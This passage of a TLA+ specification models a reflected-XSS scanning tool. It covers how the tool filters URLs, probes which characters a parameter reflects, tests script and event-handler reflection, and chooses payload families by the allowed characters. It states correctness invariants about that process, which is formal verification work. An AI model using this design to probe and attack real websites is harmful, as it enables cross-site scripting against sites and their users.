                         ELSE test_single(Nominal(chars[k])).value]} :
       \E last \in LastValues(chars, values) :
       \E st2 \in {BatchDone(q,
                              [st EXCEPT !.pc = "run", !.waiting = {},
                                         !.tcache = AfterResponses(@, last, now)],
                              st.hit_true \/ AnyTrue(values), now)} :
          /\ quick' = [quick EXCEPT ![q] = st2]
          /\ sent' = AddSent(sent, InFlight(q, st2), st2.waiting)
          /\ faults' = faults - Cardinality(F)
    /\ SentThrough(batch_session)
    /\ UNCHANGED <<swept, char_groups, reflects, apc, bi, batch, waiting, batch_results,
                   initial_results, results, synthVars, notParam>>

\* lines 1059-1076: the gather of the three tests returned
AnalyzeReturn ==
    /\ apc = "quick"
    /\ \A q \in Tests : quick[q].pc = "done"
    /\ analysis' = SweptProfile(Url, Param, allowed_chars(results), blocked_chars(results),
                                TRUE \in quick["scripts"].result,
                                TRUE \in quick["events"].result,
                                quick["length"].result)
    /\ spc' = "ready"
    /\ apc' = "done"
    /\ UNCHANGED <<swept, char_groups, reflects, faults, bi, batch, waiting, batch_results,
                   initial_results, results, quick, sent, request_headers, payloads, notParam>>

ParamNext ==
    \/ AnalyzeStart
    \/ \E k \in waiting : ProbeResponse(k)
    \/ GateFailed
    \/ GatePass
    \/ SweepNext
    \/ SweepDone
    \/ \E q \in Tests : TestResponses(q)
    \/ AnalyzeReturn
    \/ Generate

SpecAnalyze == ParamInit /\ [][ParamNext]_vars

\* the requests the gate sends: one for each of the first GateSize characters
\* of the 'basic' group
GateRequests ==
    LET basic == Group(char_groups, "basic")
        sample == 1 .. Min(10, Len(basic))
    IN  [ch \in {basic[k] : k \in sample} |-> Cardinality({k \in sample : basic[k] = ch})]

\* C7: within one run and within the TTL, the request of a probe key (url,
\* param, char) is sent at most once; a repeated probe of the key is answered
\* from the cache.
C7_EachKeySentOnce ==
    \A ch \in DOMAIN sent : sent[ch] <= 1

\* C8: when none of the first 10 characters of the 'basic' group is reflected,
\* analyze_parameter returns the profile with empty allowed_chars and
\* blocked_chars, no max_length and the six booleans false, and no request
\* other than those of the gate is sent: no sweep, no script, event or length
\* test.
C8_GateFailureShortCircuits ==
    \A rs \in initial_results :
        ~(\E k \in DOMAIN rs : rs[k]) =>
            /\ apc = "done"
            /\ analysis = [param |-> Param, url |-> Url,
                           allowed_chars |-> {}, blocked_chars |-> {},
                           max_length |-> None,
                           allows_spaces |-> FALSE, allows_quotes |-> FALSE,
                           allows_angles |-> FALSE, allows_parens |-> FALSE,
                           allows_scripts |-> FALSE, allows_events |-> FALSE]
            /\ sent = GateRequests
            /\ results = NoResults
            /\ \A q \in Tests : quick[q].pc = "idle" /\ quick[q].calls = 0

\* the gate failed on a 'basic' group of more than 10 characters: 10 requests
\* were sent and the profile was returned
C8_Witness ==
    /\ apc = "done"
    /\ \E rs \in initial_results : ~(\E k \in DOMAIN rs : rs[k])
    /\ Len(Group(char_groups, "basic")) > 10
    /\ Cardinality(DOMAIN sent) = 10
    /\ \A ch \in DOMAIN sent : sent[ch] = 1
    /\ spc = "done"

(***************************************************************************)
(* process_urls on the URLs of one run                                     *)
(***************************************************************************)
RunStart ==
    /\ urls \in ScanTargets
    /\ rpc = "urls"
    /\ ui = 1
    /\ pi = 0
    /\ url_results = EmptyDict
    /\ run_results = EmptyDict
    /\ total_payloads = 0
    /\ unique_payloads = {}
    /\ output = None
    /\ errors = 0
    /\ attempted = {}
    /\ synthesized = EmptyDict
    /\ served = EmptyDict
    /\ file_path \in CharFiles

RunInit ==
    /\ RunStart
    /\ char_groups = load_from_file(file_path)
    /\ ParamRest /\ CacheStart /\ LengthIdle /\ SynthIdle /\ ProbeIdle /\ NetIdle /\ FilterIdle

\* lines 1139 and 1080-1083: the next URL is handed to analyze_url, which
\* returns {} at once for a URL without parameters
AnalyzeUrl ==
    /\ rpc = "urls"
    /\ ui <= Len(urls)
    /\ IF extract_parameters(urls[ui]) = <<>>
       THEN /\ ui' = ui + 1
            /\ UNCHANGED <<rpc, pi, url_results>>
       ELSE /\ rpc' = "params"
            /\ pi' = 1
            /\ url_results' = EmptyDict
            /\ UNCHANGED ui
    /\ UNCHANGED <<file_path, urls, run_results, total_payloads, unique_payloads, output, errors,
                   attempted, synthesized, served, notRun>>

\* lines 1085-1089: analyze_parameter returns the profile of a server that
\* reflects chars, and its payloads are generated and kept if there are any;
\* after the last parameter analyze_url returns (line 1090) and process_urls
\* records its result (lines 1140-1144)
AnalyzeParameterReturns(chars) ==
    /\ rpc = "params"
    /\ HasGroup(char_groups, "basic")
    /\ \E target \in {urls[ui]} :
       \E param \in {extract_parameters(target)[pi]} :
       \E generated \in {generate_payloads(ProfileOf(target.url, param, chars))} :
       \E result \in {IF generated # {} THEN DictSet(url_results, param, generated)
                      ELSE url_results} :
          /\ attempted' = attempted \cup {<<target.url, param>>}
          /\ synthesized' = DictSet(synthesized, <<target.url, param>>, generated)
          /\ served' = DictSet(served, <<target.url, param>>, chars)
          /\ IF pi < Len(extract_parameters(target))
             THEN /\ pi' = pi + 1
                  /\ url_results' = result
                  /\ UNCHANGED <<rpc, ui, run_results, total_payloads, unique_payloads>>
             ELSE \E kept \in {Recorded(target.url, result)} :
                  /\ run_results' = kept.run_results
                  /\ total_payloads' = kept.total_payloads
                  /\ unique_payloads' = kept.unique_payloads
                  /\ rpc' = "urls"
                  /\ ui' = ui + 1
                  /\ pi' = 0
                  /\ url_results' = EmptyDict
    /\ UNCHANGED <<file_path, urls, output, errors, notRun>>

\* analyze_parameter raises: a KeyError at line 1026 when the catalog has no
\* 'basic' group, or an error of the environment. The handler of lines
\* 1091-1093 is around the whole loop over the parameters: analyze_url
\* returns {}, which process_urls skips (line 1140)
AnalyzeParameterRaises ==
    /\ rpc = "params"
    /\ \/ /\ ~HasGroup(char_groups, "basic")
          /\ UNCHANGED errors
       \/ /\ HasGroup(char_groups, "basic")
          /\ errors < MaxErrors
          /\ errors' = errors + 1
    /\ attempted' = attempted \cup {<<urls[ui].url, extract_parameters(urls[ui])[pi]>>}
    /\ rpc' = "urls"
    /\ ui' = ui + 1
    /\ pi' = 0
    /\ url_results' = EmptyDict
    /\ UNCHANGED <<file_path, urls, run_results, total_payloads, unique_payloads, output, synthesized,
                   served, notRun>>

\* the loop of line 1138 is over: lines 1145-1154
UrlsDone ==
    /\ rpc = "urls"
    /\ ui > Len(urls)
    /\ rpc' = "progress"
    /\ UNCHANGED <<file_path, urls, ui, pi, url_results, run_results, total_payloads,
                   unique_payloads, output, errors, attempted, synthesized, served, notRun>>

\* lines 1155-1178: the progress loop ends, the file is written and cleaned
WriteOutput ==
    /\ rpc = "progress"
    /\ output' = Some(remove_empty_lines(WrittenLines(unique_payloads)))
    /\ rpc' = "done"
    /\ UNCHANGED <<file_path, urls, ui, pi, url_results, run_results, total_payloads,
                   unique_payloads, errors, attempted, synthesized, served, notRun>>

\* the task is cancelled (Ctrl-C under asyncio.run) while it awaits, inside
\* analyze_parameter or in the sleep of line 1158. CancelledError is not an
\* Exception, so the handlers of lines 1091 and 1166 let it through, and the
\* handler of lines 1180-1184 closes the progress bar and prints a message
Interrupt ==
    /\ rpc \in {"params", "progress"}
    /\ rpc' = "interrupted"
    /\ UNCHANGED <<file_path, urls, ui, pi, url_results, run_results, total_payloads,
                   unique_payloads, output, errors, attempted, synthesized, served, notRun>>

RunNext ==
    \/ AnalyzeUrl
    \/ \E chars \in ScanReflections : AnalyzeParameterReturns(chars)
    \/ AnalyzeParameterRaises
    \/ UrlsDone
    \/ WriteOutput
    \/ Interrupt

SpecScan == RunInit /\ [][RunNext]_vars

\* C9: when the scan is interrupted after at least one URL was fully
\* analyzed, the payloads of every completed URL are written to the output
\* file.
C9_InterruptKeepsCompleted ==
    rpc = "interrupted" =>
        \A url \in DOMAIN run_results : \A param \in DOMAIN run_results[url] :
            \A payload \in run_results[url][param] :
                stripped_payload(payload) # <<>> =>
                    \E lines \in output : \E p \in DOMAIN lines :
                        lines[p] = stripped_payload(payload)

\* C10: when the analysis of a parameter raises, the other parameters of the
\* URL are still analyzed and the payloads generated for its parameters are
\* kept: once analyze_url has returned for a URL, analyze_parameter was
\* called on each of its parameters and every payload generated for one of
\* them is among the payloads of the run.
C10_ParameterFailureIsolated ==
    \A k \in 1 .. Min(ui - 1, Len(urls)) :
        \A j \in 1 .. Len(extract_parameters(urls[k])) :
            LET call == <<urls[k].url, extract_parameters(urls[k])[j]>>
            IN  /\ call \in attempted
                /\ call \in DOMAIN synthesized => synthesized[call] \subseteq unique_payloads

(***************************************************************************)
(* filter_urls: one step of its loop for each line of the list              *)
(***************************************************************************)
\* lines 59-62: the call on the lines read from the list (line 1333)
FilterStart ==
    /\ raw_urls \in UrlLists
    /\ fpc = "loop"
    /\ fi = 1
    /\ filtered = <<>>
    /\ seen_patterns = {}
    /\ no_params_count = 0

FilterInit ==
    FilterStart /\ CacheStart /\ LengthIdle /\ SynthIdle /\ ParamIdle /\ ProbeIdle /\ RunIdle
    /\ NetIdle

\* lines 66-84: one line of the list
FilterUrl ==
    /\ fpc = "loop"
    /\ fi <= Len(raw_urls)
    /\ fi' = fi + 1
    /\ \E url \in {Strip(raw_urls[fi])} :
          IF url = <<>> \/ ~url_pattern(url)
          THEN UNCHANGED <<filtered, seen_patterns, no_params_count>>
          ELSE IF 2 * Cardinality(special_chars(url)) > Len(url)
          THEN UNCHANGED <<filtered, seen_patterns, no_params_count>>
          ELSE IF ~urlparse(url).ok
          THEN UNCHANGED <<filtered, seen_patterns, no_params_count>>
          ELSE IF urlparse(url).query = <<>>
          THEN /\ no_params_count' = no_params_count + 1
               /\ UNCHANGED <<filtered, seen_patterns>>
          ELSE \E pattern \in {<<base_url(urlparse(url)), parse_qs(urlparse(url).query)>>} :
               /\ IF pattern \notin seen_patterns
                  THEN /\ seen_patterns' = seen_patterns \cup {pattern}
                       /\ filtered' = Append(filtered, url)
                  ELSE UNCHANGED <<filtered, seen_patterns>>
               /\ UNCHANGED no_params_count
    /\ UNCHANGED <<raw_urls, fpc, notList>>

\* line 85: return filtered, no_params_count
FilterReturn ==
    /\ fpc = "loop"
    /\ fi > Len(raw_urls)
    /\ fpc' = "returned"
    /\ UNCHANGED <<raw_urls, fi, filtered, seen_patterns, no_params_count, notList>>

FilterNext == FilterUrl \/ FilterReturn

SpecFilter == FilterInit /\ [][FilterNext]_vars

\* the requests in flight: those of the gate or of the sweep that hold a
\* connection of the pool of analyze_parameter, and those of the batches the
\* three tests await (the connector of a session created without one allows
\* more connections than a batch has requests)
ConnectionsInUse ==
    Cardinality(Pool(max_connections, waiting))
    + Cardinality(quick["scripts"].waiting)
    + Cardinality(quick["events"].waiting)
    + Cardinality(quick["length"].waiting)

\* C11: at every moment the number of probe requests in flight is at most
\* max_connections, in the gate, in the sweep and in the three tests.
C11_InFlightBounded == ConnectionsInUse <= max_connections

\* C12: every probe request is sent with the default headers overridden by
\* the headers of the user, the mapping init_session builds.
C12_ProbesCarryMergedHeaders ==
    \A headers \in request_headers : \E defaults \in DefaultHeaders :
        headers = init_session(defaults)

\* C13: for a profile with allows_angles false, no payload generate_payloads
\* returns has a literal '<', and of the predefined families only the encoded
\* one contributes to it.
C13_NoLiteralAngleWithoutAngles ==
    (spc = "done" /\ ~analysis.allows_angles) =>
        /\ \A p \in payloads : \A i \in 1 .. Len(p) : p[i] # "<"
        /\ payloads \cap (ScriptTagFamily \cup QuoteFamily \cup CssFamily) = {}

\* a profile without angles in which '<' is not blocked, with payloads of the
\* encoded family and of the dynamic generator
C13_Witness ==
    /\ spc = "done"
    /\ ~analysis.allows_angles
    /\ "<" \notin analysis.blocked_chars
    /\ analysis.allowed_chars # {}
    /\ payloads \cap EncodedFamily # {}
    /\ payloads \cap proto_evasions # {}

\* the gate of the script and tag family, as the claim words it
ScriptGate(a) ==
    /\ a.allows_angles /\ a.allows_scripts
    /\ "=" \in a.allowed_chars /\ "/" \in a.allowed_chars

\* a family is in a set of payloads in full if its gate holds, not at all if not
WholeOrAbsent(family, gate, ps) == IF gate THEN family \subseteq ps ELSE family \cap ps = {}

\* C14: get_predefined_payloads includes each family in full or not at all:
\* the script and tag family iff allows_angles, allows_scripts and '=' and
\* '/' are allowed; the quote subfamily iff that gate holds and allows_quotes;
\* the encoded family iff not allows_angles; the CSS family iff allows_angles
\* and allows_quotes.
C14_FamiliesWholeByGate ==
    spc = "done" =>
        LET predefined == get_predefined_payloads(analysis)
        IN  /\ WholeOrAbsent(ScriptTagFamily, ScriptGate(analysis), predefined)
            /\ WholeOrAbsent(QuoteFamily, ScriptGate(analysis) /\ analysis.allows_quotes,
                             predefined)
            /\ WholeOrAbsent(EncodedFamily, ~analysis.allows_angles, predefined)
            /\ WholeOrAbsent(CssFamily, analysis.allows_angles /\ analysis.allows_quotes,
                             predefined)
            /\ predefined \subseteq
                  ScriptTagFamily \cup QuoteFamily \cup EncodedFamily \cup CssFamily

\* a profile that passes the gate of the script and tag family and has no
\* quotes: that family is generated, the quote and the CSS family are not
C14_Witness ==
    /\ spc = "done"
    /\ ScriptGate(analysis) /\ ~analysis.allows_quotes
    /\ ScriptTagFamily \cap payloads # {}
    /\ (QuoteFamily \cup CssFamily) \cap payloads = {}

\* every basic character and each of < > " ' ( ) = /
NeededChars ==
    Chars(Group(DefaultCharGroups, "basic")) \cup {"<", ">", "\"", "'", "(", ")", "=", "/"}

\* the script and tag family with its quote subfamily
TagFamilies == ScriptTagFamily \cup QuoteFamily

\* C15 as stated: for a parameter that reflects every basic character and
\* each of < > " ' ( ) = /, the payloads synthesized contain every member of
\* the script and tag family and of its quote subfamily.
C15_ReflectingParameterGetsFamilies ==
    \A call \in DOMAIN served :
        NeededChars \subseteq served[call] => TagFamilies \subseteq synthesized[call]

\* C15, amended: for such a parameter the payloads synthesized contain
\* exactly the members of the two families without a character the parameter
\* blocks (a catalog character it does not reflect), hence every member when
\* it reflects every catalog character that occurs in them.
C15_UnblockedFamilyMembers ==
    \A call \in DOMAIN served :
        NeededChars \subseteq served[call] =>
            synthesized[call] \cap TagFamilies =
                {p \in TagFamilies : Chars(p) \cap (DefaultUniverse \ served[call]) = {}}

\* a run with a parameter that reflects the needed characters only, which
\* gets some members and not others, and one that reflects the whole catalog,
\* which gets them all
C15_Witness ==
    /\ \E call \in DOMAIN served :
          /\ NeededChars \subseteq served[call]
          /\ synthesized[call] \cap TagFamilies # {}
          /\ ~(TagFamilies \subseteq synthesized[call])
    /\ \E call \in DOMAIN served :
          /\ served[call] = DefaultUniverse
          /\ TagFamilies \subseteq synthesized[call]

\* C16: the final filter applied to the payloads it returned, with the same
\* blocked_chars and max_length, returns the same set.
C16_FilterIdempotent ==
    spc = "done" => FinalFilter(analysis, payloads) = payloads

\* a profile whose filter dropped payloads for their length and for a blocked
\* character, and kept others
C16_Witness ==
    /\ spc = "done"
    /\ payloads # {}
    /\ analysis.blocked_chars # {}
    /\ LET all_payloads ==
              get_predefined_payloads(analysis) \cup generate_dynamic_payloads(analysis)
       IN  /\ LengthFilter(analysis, all_payloads) # all_payloads
           /\ payloads # LengthFilter(analysis, all_payloads)

\* C17: in the output file every payload synthesized for a parameter of a
\* URL is on exactly one line, the lines are in lexicographic order and none
\* is blank. The line of a payload comes before the line of another when the
\* payload precedes the other (the file is written in the order of sorted).
C17_EachPayloadOnOneSortedLine ==
    \A lines \in output :
        /\ \A p \in DOMAIN lines : ~IsBlank(lines[p])
        /\ \/ \A p \in DOMAIN lines : lines[p] = p
           \/ \A p, q \in DOMAIN lines : Precedes(p, q) => ~Precedes(lines[q], lines[p])
        /\ Cardinality({lines[p] : p \in DOMAIN lines}) = Cardinality(DOMAIN lines)
        /\ \A call \in DOMAIN synthesized :
              synthesized[call] \subseteq {lines[p] : p \in DOMAIN lines}

\* C18: whatever the character file is (missing, unreadable, malformed), the
\* catalog of the analyzer is the built-in one or has a 'basic' group for the
\* gate, and in a run without a failure of the environment every parameter
\* of every URL has been analyzed to a profile when the run is done.
C18_ConfigurationFaultNotFatal ==
    rpc # "idle" =>
        /\ char_groups = DefaultCharGroups \/ HasGroup(char_groups, "basic")
        /\ (rpc = "done" /\ errors = 0) =>
               \A u \in 1 .. Len(urls) :
                  \A i \in 1 .. Len(extract_parameters(urls[u])) :
                     <<urls[u].url, extract_parameters(urls[u])[i]>> \in DOMAIN served

\* C19: filter_urls keeps at most one URL for each pattern (scheme://host/path
\* with the set of the names of the query parameters), the first one of the
\* list that has the pattern, and no two of the URLs it hands to the run have
\* the same scheme://host/path and the same names of parameters to analyze.
C19_OneTargetPerPattern ==
    fpc = "returned" =>
        /\ \A i, j \in 1 .. Len(filtered) :
              i < j => Pattern(filtered[i]) # Pattern(filtered[j])
        /\ \A i \in 1 .. Len(filtered) :
              \E k \in 1 .. Len(raw_urls) :
                 /\ Strip(raw_urls[k]) = filtered[i]
                 /\ \A m \in 1 .. k - 1 :
                       HasPattern(raw_urls[m]) =>
                          Pattern(Strip(raw_urls[m])) # Pattern(filtered[i])
        /\ \A i, j \in 1 .. Len(filtered) :
              i < j => <<base_url(urlparse(filtered[i])), ParameterNames(filtered[i])>>
                       # <<base_url(urlparse(filtered[j])), ParameterNames(filtered[j])>>

\* C20: quick_test_scripts, and likewise quick_test_events, returns true if
\* and only if at least one of its variant strings, sent whole, is reflected
\* verbatim. The server filters by character: it reflects a string verbatim
\* when it reflects every character of the string.
C20_QuickTestsReflectWholeVariants ==
    \A q \in {"scripts", "events"} :
        quick[q].pc = "done" =>
            (TRUE \in quick[q].result
             <=> \E i \in 1 .. Len(test_payloads(q)) : Chars(test_payloads(q)[i]) \subseteq reflects)

\* C21: at each step of quick_test_length with candidate mid, the value of
\* the parameter in a request of the step is the string of mid characters
\* 'A', so that the step is accepted exactly when the server reflects a
\* value of length mid.
C21_LengthProbeIsMidLong ==
    quick["length"].pc = "wait" =>
        \A k \in quick["length"].waiting :
            test_params(InFlight("length", quick["length"])[k])
                = [n \in 1 .. Mid(quick["length"].left, quick["length"].right) |-> "A"]

\* C22: during the sweep the characters of each group are probed in batches
\* of at most 20; a batch is started only when every probe of the batch
\* before it has completed or failed, and the outcomes of a batch are
\* recorded only when all its probes have completed, in whatever order.
C22_SweepBatchesInTurn ==
    [][/\ apc' = "sweep" => Len(batch') <= 20
       /\ (apc' = "sweep" /\ <<apc, bi>>' # <<apc, bi>>) => waiting = {}
       /\ results' # results =>
              (waiting = {} /\ DOMAIN batch_results = 1 .. Len(batch))]_vars

\* the last character of a group of 21 is probed alone, after the first 20
\* were recorded
C22_Witness ==
    /\ apc = "sweep"
    /\ char_groups = WideCatalog
    /\ batch = <<"w">>
    /\ waiting = {}
    /\ Cardinality(DOMAIN results) = 22

\* the characters of the catalog, all probed by a sweep
CatalogChars == UNION {Chars(char_groups[g].chars) : g \in 1 .. Len(char_groups)}

\* the gate's gather returned and a sampled character was reflected
GateWasPassed == \E rs \in initial_results : GatePassed(rs)

\* C23: in every ParamAnalysis analyze_parameter returns, allowed_chars and
\* blocked_chars are disjoint, whatever the order and the outcomes of the
\* probes, for characters of several groups and repeated probes that differ.
C23_AllowedBlockedDisjoint ==
    apc = "done" => analysis.allowed_chars \cap analysis.blocked_chars = {}

\* a profile returned after the two probes of a character differed, with
\* characters on both sides
C23_Witness ==
    /\ apc = "done"
    /\ faults < MaxFaults
    /\ \E ch \in DOMAIN sent : sent[ch] > 1 /\ ch \in reflects /\ ch \in analysis.allowed_chars
    /\ analysis.blocked_chars # {}

\* C24: in every ParamAnalysis analyze_parameter returns, the union of
\* allowed_chars and blocked_chars is the set of the characters that were
\* probed for the parameter.
C24_UnionIsProbed ==
    apc = "done" =>
        analysis.allowed_chars \cup analysis.blocked_chars = {ch \in DOMAIN sent : sent[ch] > 0}

\* C24 as the code has it: the union is the set of the characters of the
\* catalog, which the sweep probes, when the gate passed, and empty when the
\* gate failed; a character that only the gate or the three tests probed is
\* in neither set.
C24_UnionIsSwept ==
    apc = "done" =>
        analysis.allowed_chars \cup analysis.blocked_chars
            = IF GateWasPassed THEN CatalogChars ELSE {}

\* a profile returned after a sweep of a group of two batches, the three
\* tests having probed characters that are not in the catalog
C24_Witness ==
    /\ apc = "done"
    /\ GateWasPassed
    /\ char_groups = WideCatalog
    /\ "w" \in analysis.blocked_chars
    /\ \E ch \in DOMAIN sent : sent[ch] > 0 /\ ch \notin CatalogChars

\* C25: every payload generate_dynamic_payloads emits is built only from
\* fragments (tag name, tag mutation, event-handler name, JS function name,
\* separator characters) all of whose characters are in allowed_chars. For a
\* payload of the tag loop these are the tag, its mutation and the '/' and
\* '*' or the null byte around the function; for a payload of the event loop
\* the tag, the handler name, the space and the '=' that separate them and
\* the function name alert.
C25_DynamicFragmentsAllowed ==
    spc = "done" =>
        LET dynamic == generate_dynamic_payloads(analysis)
        IN  /\ \A tag \in base_tags : \A m \in tag_mutations(tag) :
                  /\ CommentVariants(analysis, m) \cap dynamic # {} =>
                        /\ AllAllowed(analysis, tag) /\ AllAllowed(analysis, m)
                        /\ {"/", "*"} \subseteq analysis.allowed_chars
                  /\ NullByteVariants(analysis, tag) \cap dynamic # {} =>
                        /\ AllAllowed(analysis, tag)
                        /\ NUL \in analysis.allowed_chars
            /\ \A tag \in event_tags : \A event \in event_handlers :
                  \A ev \in event_mutations(event) :
                     EventVariants(analysis, tag, ev) \cap dynamic # {} =>
                        /\ AllAllowed(analysis, tag) /\ AllAllowed(analysis, ev)
                        /\ {" ", "="} \subseteq analysis.allowed_chars
                        /\ AllAllowed(analysis, <<"a", "l", "e", "r", "t">>)

\* the gate of the tag loop and of the event loop, line 877
AngleGate(a) == a.allows_angles /\ "<" \in a.allowed_chars /\ ">" \in a.allowed_chars

\* C26: the generator ranges over the base name and its mutations: for every
\* base tag whose characters are allowed and whose other gates pass, the
\* payloads with the unmutated tag name are emitted, and for every base event
\* handler likewise the payloads with the unmutated handler name.
C26_BaseNamesEmitted ==
    (spc = "done" /\ AngleGate(analysis)) =>
        LET dynamic == generate_dynamic_payloads(analysis)
        IN  /\ \A tag \in {t \in base_tags : AllAllowed(analysis, t)} :
                  CommentVariants(analysis, tag) \subseteq dynamic
            /\ "=" \in analysis.allowed_chars =>
                  \A tag \in {t \in event_tags : AllAllowed(analysis, t)} :
                     \A event \in {e \in event_handlers : AllAllowed(analysis, e)} :
                        EventVariants(analysis, tag, event) \subseteq dynamic

\* the search with its loop running on: every await of test_chars_batch
\* returns (each request has a timeout of 2 s, line 992, and every exception
\* is caught, lines 1001 and 1013), so a turn that can be taken is taken
SpecLengthFair == SpecLength /\ WF_vars(LengthNext)

\* C27: quick_test_length terminates for every sequence of answers, also
\* non-monotonic and failing ones: the interval [left, right] strictly
\* shrinks at each step, the loop ends with left > right after at most 13
\* consultations of the oracle, and the value returned is right.
C27_LengthSearchTerminates ==
    /\ [][(left' # left \/ right' # right) =>
             /\ left <= left' /\ right' <= right
             /\ right' - left' < right - left]_vars
    /\ [](Len(consulted) <= 13)
    /\ [](lpc = "done" => (left > right /\ max_length = Some(right)))
    /\ <>(lpc = "done")

\* a search under free answers that returned after 13 consultations, some
\* accepted and some rejected
C27_Witness ==
    /\ lpc = "done"
    /\ oracle = None
    /\ Len(consulted) = 13
    /\ \E i, j \in 1 .. Len(consulted) : consulted[i][2] /\ ~consulted[j][2]

\* C28: a parameter that fails the viability gate still contributes to the
\* run: generate_payloads on its profile returns exactly the six payloads of
\* the encoded family, and once analyze_url has returned for its URL they
\* are recorded for that parameter in the results of the run.
C28_GateFailedParameterContributes ==
    \A k \in 1 .. Min(ui - 1, Len(urls)) :
        \A j \in 1 .. Len(extract_parameters(urls[k])) :
            LET url == urls[k].url
                param == extract_parameters(urls[k])[j]
            IN  (/\ <<url, param>> \in DOMAIN served
                 /\ ProfileOf(url, param, served[<<url, param>>]) = GateFailedProfile(url, param))
                => /\ synthesized[<<url, param>>] = EncodedFamily
                   /\ Cardinality(EncodedFamily) = 6
                   /\ url \in DOMAIN run_results
                   /\ param \in DOMAIN run_results[url]
                   /\ run_results[url][param] = EncodedFamily

\* the places <<batch, index>> of the sweep where a character is probed,
\* and the last of them in the order of the catalog
Occurrences(ch) ==
    {bk \in UNION {{<<b, k>> : k \in 1 .. Len(SweepBatches(char_groups)[b])}
                   : b \in 1 .. Len(SweepBatches(char_groups))} :
        SweepBatches(char_groups)[bk[1]][bk[2]] = ch}
LastOccurrence(ch) ==
    CHOOSE bk \in Occurrences(ch) :
        \A other \in Occurrences(ch) :
            other[1] < bk[1] \/ (other[1] = bk[1] /\ other[2] <= bk[2])

\* C29: a character that occurs several times in the catalog, in several
\* groups or several times in one, is probed at each occurrence, and in the
\* profile it is classified by the outcome of its last occurrence in the
\* order of the catalog, whatever the order in which the probes complete.
C29_LastOccurrenceClassifies ==
    (apc \in {"quick", "done"} /\ GateWasPassed) =>
        \A ch \in CatalogChars :
            /\ sent[ch] >= Cardinality(Occurrences(ch))
                           + (IF ch \in DOMAIN GateRequests THEN GateRequests[ch] ELSE 0)
            /\ results[ch] = swept[LastOccurrence(ch)[1]][LastOccurrence(ch)[2]]
            /\ apc = "done" =>
                  /\ ch \in analysis.allowed_chars
                        <=> swept[LastOccurrence(ch)[1]][LastOccurrence(ch)[2]]
                  /\ ch \in analysis.blocked_chars
                        <=> ~swept[LastOccurrence(ch)[1]][LastOccurrence(ch)[2]]

\* a profile in which a character of a group that repeats it is allowed
\* after an earlier probe of it was negative
C29_Witness ==
    /\ apc = "done"
    /\ char_groups = RepeatCatalog
    /\ "b" \in analysis.allowed_chars
    /\ Cardinality(Occurrences("b")) = 3
    /\ \E bk \in Occurrences("b") : ~swept[bk[1]][bk[2]]

====
